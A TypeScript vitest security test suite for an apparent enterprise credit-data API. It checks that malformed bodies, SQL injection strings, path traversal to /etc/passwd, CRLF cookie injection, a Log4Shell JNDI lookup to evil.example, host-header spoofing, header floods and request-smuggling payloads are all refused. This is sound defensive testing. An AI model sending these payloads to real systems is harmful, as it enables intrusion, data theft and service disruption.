// 坏输入 (bad input): what nobody should send, sent to a node that listens. Each is told what is wrong, nothing
// happens, and the next one is served.
import { request } from 'node:http';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { beforeALoan } from './bank-builders.ts';
import type { Person } from './person-builders.ts';
import { licence, openProvince, type Enterprise, type Province } from './province-builders.ts';

let province: Province;
let firm: Enterprise;
let officer: Person;
let administrator: Person;
let source: Person;
beforeAll(async () => {
  province = await openProvince();
  await (await province.sourceOfficer('samr')).deliver('营业执照信息', [licence(1)]);
  source = await province.sourceOfficer('tax');
  firm = await province.representative(1);
  const bank = await province.bank('黔岭银行');
  [officer, administrator] = [await bank.officer(), bank.administrator];
  await (await bank.system()).consentFrom(firm, beforeALoan(firm.uscc));
});
afterAll(() => province.close());

/** Sends bytes as they are to the query of firm 1, and hears the answer. */
function post(body: string | Buffer, headers: Record<string, string> = {}) {
  return new Promise<{ status: number; code: string }>((resolve, reject) => {
    const asked = request(
      `${province.origin}/api/v1/subjects/${firm.uscc}/query`,
      { method: 'POST', headers: { 'content-type': 'application/json', ...headers } },
      (answer) =>
        void text(answer).then(
          (told) => resolve({ status: answer.statusCode ?? 0, code: JSON.parse(told).code }),
          reject,
        ),
    );
    asked.on('error', reject).end(body);
  });
}

describe('a body that is not as it should be', () => {
  const whole = { consent: 'c', purpose: 'pre-loan-review', items: ['tax.grade'] };
  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;

  it.each<[string, string | Buffer, number, string]>([
    ['cut off', '{"consent":', 400, 'request.not-json'],
    ['nothing', '', 400, 'request.not-json'],
    ['something after it', '{}{}', 400, 'request.not-json'],
    ['no UTF-8', Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), 400, 'request.not-json'],
    ['a list', '[]', 400, 'request.malformed'],
    ['a text', '"consent"', 400, 'request.malformed'],
    ['null', 'null', 400, 'request.no-body'],
    ['nested deep', nested, 400, 'request.'],
    ['a member too many', JSON.stringify({ ...whole, all: true }), 400, 'request.malformed'],
    ['a prototype', '{"__proto__":{"consent":"c"}}', 400, 'request.not-json'],
    ['a constructor', '{"constructor":{"prototype":{"x":1}}}', 400, 'request.not-json'],
    ['a number for a text', JSON.stringify({ ...whole, consent: 1 }), 400, 'request.malformed'],
    [
      'items without end',
      JSON.stringify({ ...whole, items: Array(101).fill('a') }),
      400,
      'request.malformed',
    ],
    [
      'two million letters',
      JSON.stringify({ ...whole, consent: 'a'.repeat(2_000_000) }),
      413,
      'request.too-large',
    ],
  ])('%s', async (_what, body, status, code) => {
    const told = await post(body, { cookie: officer.cookie() });
    expect(told).toEqual({ status, code: expect.stringContaining(code) });
  });

  it.each([
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=a',
    'application/json; charset=utf-16',
  ])('of type %s', async (type) => {
    const headers = { cookie: officer.cookie(), 'content-type': type };
    const told = await post(JSON.stringify(whole), headers);
    expect(told.status).toBeGreaterThanOrEqual(400);
    expect(told.status).toBeLessThan(500);
  });
});

const nasty = [
  `'; drop table consent; --`,
  `" or 1=1 --`,
  `1) union select phone from person --`,
  `\\'; select pg_sleep(9); --`,
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'a\r\nset-cookie: xq_session=evil',
  '${jndi:ldap://evil.example}',
  '\u202etxt.exe',
  '𠮷'.repeat(150),
];

describe('SQL, paths and headers in what is a text', () => {
  it.each(nasty)('%j is a text that nothing is found by, in every place there is', async (word) => {
    const told = encodeURIComponent(word);
    const answers = [
      await province.visitor.ask(`GET /subjects?q=${told}`),
      await province.visitor.ask(`GET /subjects/${told}/report`),
      await province.visitor.ask(`GET /catalogue/${told}/schema`),
      await officer.ask(`GET /consents/${told}`),
      await officer.ask(`GET /consents?subject=${told}`),
      await officer.ask(`GET /disclosures/${told}`),
      await officer.ask(`GET /evidence/receipts?subject=${firm.uscc}&request=${told}`),
      await firm.ask(`GET /my/accesses?item=${told}`),
      await administrator.ask(`DELETE /clients/${told}`),
      await administrator.ask(`GET /usage?code=${told}`),
      await source.ask(`GET /batches/${told}`),
      await province.visitor.ask('POST /sessions', { login: word, password: word }),
      await officer.ask(`POST /subjects/${firm.uscc}/query`, {
        consent: word.slice(0, 90),
        purpose: word.slice(0, 40),
        items: [word.slice(0, 90)],
      }),
    ];
    for (const { status, headers, json } of answers) {
      expect([200, 400, 401, 403, 404, 414]).toContain(status);
      expect(headers.get('set-cookie') ?? '').not.toContain('evil');
      if (status === 200) expect(json.subjects).toEqual([]);
    }
    const { rows } = await province.owner.query('select count(*)::int as n from consent');
    expect(rows).toEqual([{ n: 1 }]);
  });

  it.each(['../../../etc/cron.d/x', '..\\..\\x.csv', '/etc/passwd', 'a"; filename="b', 'con'])(
    'a file called %j is kept as bytes under a number, and its name is only told again',
    async (name) => {
      const query = new URLSearchParams({ item: '纳税信息', source: 'tax', name });
      const bytes = Buffer.from(`企业名称,统一社会信用代码\n${name},x\n`);
      const { batch } = await source.done(`POST /batches?${query.toString()}`, bytes);
      const told = await source.done(`GET /batches/${batch}`);
      expect(told.file).toMatchObject({ name, bytes: bytes.length });
    },
  );

  it('a file whose name holds a line feed is refused', async () => {
    const query = new URLSearchParams({ item: '纳税信息', source: 'tax', name: 'a\r\nx: y' });
    const refused = await source.ask(`POST /batches?${query.toString()}`, Buffer.from('a\n'));
    expect([refused.status, refused.code]).toEqual([400, 'request.malformed']);
  });

  it.each([
    '/../../etc/passwd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..%5c..%5cetc',
    '/assets/../../x',
    '//etc/passwd',
  ])('there is no file behind %s', async (path) => {
    const status = await new Promise((resolve) => {
      const { hostname, port } = new URL(province.origin);
      request({ hostname, port, path }, (answer) => {
        answer.resume();
        resolve(answer.statusCode);
      }).end();
    });
    expect([400, 404]).toContain(status);
  });
});

describe('headers', () => {
  it('that name another host change nothing of what the node says of itself', async () => {
    const evil = {
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'https',
      forwarded: 'host=evil.example',
    };
    const told = await new Promise<string>((resolve, reject) => {
      const url = `${province.origin}/oauth/.well-known/openid-configuration`;
      request(url, { headers: { ...evil, host: 'evil.example' } }, (answer) => {
        void text(answer).then(resolve, reject);
      }).end();
    });
    expect(told).toContain(province.origin);
    expect(told).not.toContain('evil.example');
  });

  it('that nobody asked for are read past, and a flood of them is refused', async () => {
    const many = Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`x-${n}`, 'y']));
    const told = await fetch(`${province.origin}/api/v1/keys`, { headers: many });
    expect(told.status).toBe(200);
    const thousand = `GET /api/v1/keys HTTP/1.1\r\nhost: a\r\nconnection: close\r\n${'x: y\r\n'.repeat(1_000)}\r\n`;
    expect(await raw(thousand)).toMatch(/^HTTP\/1\.1 [24]00 /);
    const flood = `GET /api/v1/keys HTTP/1.1\r\nhost: a\r\n${'x: yyyyyyyyyyyyyyyy\r\n'.repeat(20_000)}\r\n`;
    // Whoever is still sending may miss the answer for the hanging up.
    expect(await raw(flood)).toMatch(/^(HTTP\/1\.1 400 |$)/);
    expect((await province.visitor.ask('GET /keys')).status).toBe(200);
  });

  it('that disagree on where the body ends are refused (RFC 9112 6.3)', async () => {
    const start = 'POST /api/v1/sessions HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n';
    const both = `${start}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`;
    const twice = `${start}content-length: 4\r\ncontent-length: 2\r\n\r\n{}{}`;
    for (const smuggled of [both, twice]) expect(await raw(smuggled)).toMatch(/^HTTP\/1\.1 400 /);
  });
});

/** Sends bytes, and hears everything until the node hangs up. */
async function raw(bytes: string): Promise<string> {
  const { hostname, port } = new URL(province.origin);
  const socket = connect(Number(port), hostname);
  let heard = '';
  socket.on('data', (piece) => (heard += piece)).on('error', () => {});
  socket.write(bytes);
  await new Promise((resolve) => socket.once('close', resolve));
  return heard;
}
